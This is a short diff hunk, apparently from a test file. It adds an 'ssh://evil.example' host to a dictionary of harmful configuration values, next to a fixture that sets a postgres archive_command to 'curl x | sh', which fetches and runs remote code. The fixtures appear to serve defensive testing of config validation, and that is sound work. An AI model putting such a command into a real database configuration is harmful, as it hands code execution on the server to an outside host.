@@ -39,6 +39,7 @@ HARMFUL = {
     "postgres_settings": {"work_mem": "8MB"},
     "home": ".fz",
     "split_roles": False,
+    "host": "ssh://evil.example",
 }
 COMMAND = '[postgres_settings]\narchive_command = "curl x | sh"\n'
 
